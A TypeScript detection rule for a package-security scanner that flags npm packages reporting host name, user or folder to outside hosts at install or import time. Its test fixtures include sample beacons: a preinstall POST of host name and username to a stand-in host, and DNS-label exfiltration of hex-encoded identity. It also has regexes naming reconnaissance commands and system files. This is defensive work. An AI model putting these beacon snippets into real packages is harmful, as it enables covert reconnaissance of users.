import type { Action, Context, Fact, Flow, Inspection, Rule } from '../lib/types.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { isStranger, placeInWords } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { findingsOf, isUnasked, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { isBelowDomain, isToldToDomain } from './behaviour/told-names.ts'
import { destinationsInWords, findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** Who and where this machine is, sent off by a package nobody has used yet. */
export const hostBeacon: Rule = {
  meta: {
    id: 'host-beacon',
    title: 'Reports who and where this computer is',
    severity: 'high',
    description:
      'While installing or on import the code sends the host name, the user, addresses or the folder to a machine that ' +
      'is not the package’s own. It is how a squatted internal package name finds out whom it caught. Honest telemetry is ' +
      'coarse or hashed, goes to its own host and starts when the program is used. As part of a looked-up name it is ' +
      'asked about whenever that happens.',
    references: [
      'dependency confusion (2021 and since): host name, user and folder in DNS labels',
      '60-package reconnaissance campaign (May 2025): a Discord webhook',
    ],
    blindSpots: ['Facts that are hashed first are not followed.', 'The address the server sees anyway.'],
    examples: {
      flags: [
        {
          title: 'a preinstall script posts host name and user',
          files: {
            'package.json': '{"name":"a","version":"99.9.9","scripts":{"preinstall":"node i.js"}}',
            'i.js':
              "const os = require('os')\n" +
              "const q = require('https').request({ hostname: 'x1.oast.invalid', method: 'POST' })\n" +
              'q.end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }))\n',
          },
        },
        {
          title: 'a class looks up who uses it, piece by piece',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const os = require('os'), dns = require('dns')\n" +
              'exports.Pool = class {\n  constructor() {\n' +
              "    const who = Buffer.from(os.hostname() + '/' + os.userInfo().username).toString('hex')\n" +
              "    for (const part of who.match(/.{1,60}/g)) dns.resolve(part + '.q.pool.invalid', () => {})\n  }\n}\n",
          },
        },
        {
          title: 'the host name as a label of a looked-up name',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "require('dns').lookup(require('os').hostname() + '.d.canary.invalid', () => {})\n",
          },
        },
      ],
      passes: [
        {
          title: 'a cluster that looks its neighbours up',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const os = require('os'), dns = require('dns')\n" +
              "const [set] = os.hostname().split('-')\n" +
              'exports.self = done => dns.lookup(os.hostname(), done)\n' +
              'exports.peers = done => dns.resolve(`${set}.${os.hostname()}.default.svc.cluster.local`, done)\n',
          },
        },
        {
          title: 'a logger that puts the host name into what its caller sends',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const os = require('os')\n" +
              'exports.log = (url, line) => fetch(url, { method: "POST", body: JSON.stringify({ host: os.hostname(), line }) })\n',
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const beacons = inspection.flows.flatMap(flow => beaconOf(flow, inspection, context))
    const known = new Map<string, Set<string>>()
    for (const { flow } of beacons) {
      const names = known.get(flow.sink.at.path) ?? new Set<string>()
      known.set(flow.sink.at.path, names.add(flow.source.name))
    }
    const sightings = beacons.flatMap(({ flow, place }): readonly Sighting[] => {
      const action = weigh(flow, place, known.get(flow.sink.at.path)?.size ?? 1)
      return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
    })
    const flows = findingsOf(sightings, say)
    return [...flows, ...inspection.facts.flatMap(fact => ofLookup(fact, flows))]
  },
}

/** A looked-up name with a computed label below a fixed domain, at a moment when there is nothing to look up yet. */
function ofLookup(fact: Fact, flows: readonly RuleFinding[]): readonly RuleFinding[] {
  if (fact.kind !== 'resolves' || fact.byCall || (fact.phase !== 'install' && fact.phase !== 'import'))
    return []
  const name = fact.destinations.find(isBelowDomain)
  const seen = flows.some(({ location }) => location.path === fact.at.path && location.line === fact.at.line)
  if (name === undefined || seen) return []
  const message =
    `${opening(fact)} looks up ${quote(name)}: what it computes leaves as part of the name, past any proxy. ` +
    'Names that are needed are fixed. Check what it puts there before you install it.'
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

/** Commands that print who and where one is. */
const asking =
  /^\s*(?:whoami|hostname|id|uname|ifconfig|ipconfig|systeminfo|ip\s+a|arp|pwd|net\s+user|wmic|sw_vers|lsb_release|tasklist|ps)\b/

/** Files that say the same. */
const telling =
  /^\/etc\/(?:hosts|hostname|resolv\.conf|os-release|machine-id)$|<project>\/package\.json$|\/__project__\/package\.json$/

function isAboutHost({ source }: Flow): boolean {
  // The home folder only stands at the start of paths.
  if (source.kind === 'host') return source.name !== '' && source.name !== 'home folder'
  if (source.kind === 'command-output') return asking.test(source.name)
  return (source.kind === 'file' || source.kind === 'project-file') && telling.test(source.name)
}

function beaconOf(
  flow: Flow,
  inspection: Inspection,
  context: Context,
): readonly { readonly flow: Flow; readonly place: Place }[] {
  if (!isAboutHost(flow)) return []
  const place = leavesFor(flow, inspection, context)
  return place === undefined || place.kind === 'local' ? [] : [{ flow, place }]
}

function weigh(flow: Flow, place: Place, facts: number): Action | undefined {
  const stranger = isStranger(place)
  // `uname -m` in a download address picks a binary.
  if (flow.sink.role === 'dest' && facts === 1 && place.kind !== 'capture' && /uname/.test(flow.source.name))
    return undefined
  if (flow.sink.kind === 'dns' && isUnasked(flow) && flow.certain) return 'block'
  // Names of neighbours end where they are known; what stands before somebody's domain is told to whoever has that.
  if (flow.certain && (stranger || facts > 1) && isToldToDomain(flow)) return 'ask'
  if (place.kind === 'capture' && isUnasked(flow)) return flow.certain ? 'block' : 'ask'
  if (flow.phase === 'install') {
    if (stranger) return facts > 1 && flow.certain ? 'block' : 'ask'
    return place.kind === 'unknown' && facts > 1 ? 'ask' : 'note'
  }
  if (flow.phase === 'import') return stranger ? (facts > 1 ? 'ask' : 'note') : undefined
  if (place.kind === 'capture') return 'ask'
  return stranger && !flow.byCall ? 'note' : undefined
}

function say(group: SightingGroup): string {
  const [{ flow, place, action }] = group
  const shown =
    place.host === undefined
      ? destinationsInWords(group.flatMap(({ flow: { sink } }) => sink.destinations))
      : place.host.shown
  const how = flow.sink.kind === 'dns' ? ', as part of a looked-up name, past any proxy' : ''
  const what =
    `${opening(flow)} sends ${sourcesInWords(group)} to ${shown}, ` +
    `${placeInWords(place)}${how}${guardsInWords(flow.guards)}.`
  if (action === 'note') return what
  if (!isUnasked(flow)) return `${what} Nobody who uses it is told. Ask what it needs that for.`
  return `${what} Nobody has used the package at that moment, so there is nothing to report. Check that this is the package you meant.`
}
